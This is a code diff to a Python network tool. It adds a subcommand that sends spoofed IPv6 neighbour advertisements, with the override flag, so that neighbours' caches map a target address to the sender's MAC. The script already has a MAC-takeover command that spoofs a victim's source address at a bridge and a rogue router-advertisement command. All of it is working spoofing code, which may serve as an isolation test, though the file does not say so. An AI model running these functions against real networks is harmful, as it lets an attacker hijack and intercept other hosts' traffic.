@@ -10,6 +10,8 @@ announce IFACE: sends one broadcast frame (local experimental ethertype 0x88b5) 
 takeover IFACE VICTIM_MAC SECONDS: sends broadcast frames with VICTIM_MAC as their source (a
     bridge that believes them moves VICTIM_MAC to IFACE's port), prints "sent", then counts for
     SECONDS the frames addressed to VICTIM_MAC that reach IFACE and prints the count.
+na IFACE TARGET_IP6: sends an unsolicited neighbour advertisement to all nodes, with the override
+    flag, that TARGET_IP6 is at IFACE's MAC; a neighbour holding TARGET_IP6 in its cache takes it.
 ra IFACE: sends an IPv6 router advertisement (router lifetime 1800 s) to all nodes from
     IFACE's link-local address; a neighbour that accepts it gets a default route via IFACE.
 """
@@ -107,6 +109,22 @@ def router_advertisement(iface):
         time.sleep(0.05)
 
 
+def neighbour_advertisement(iface, target):
+    _, mac = raw_socket(iface)
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    index = socket.if_nametoindex(iface)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)  # or it poisons our own cache
+    # type, code, checksum (the kernel fills it in), flags (override), target address, then the
+    # target link-layer address option (type 2, 1 unit of 8 bytes)
+    na = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000,
+                     socket.inet_pton(socket.AF_INET6, target), 2, 1, mac)
+    for _ in range(3):
+        s.sendto(na, ("ff02::1", 0, 0, index))
+        time.sleep(0.05)
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "claim":
         claim(sys.argv[2], sys.argv[3], sys.argv[4])
@@ -116,5 +134,7 @@ if __name__ == "__main__":
         announce(sys.argv[2])
     elif sys.argv[1] == "takeover":
         takeover(sys.argv[2], sys.argv[3], float(sys.argv[4]))
+    elif sys.argv[1] == "na":
+        neighbour_advertisement(sys.argv[2], sys.argv[3])
     else:
         router_advertisement(sys.argv[2])
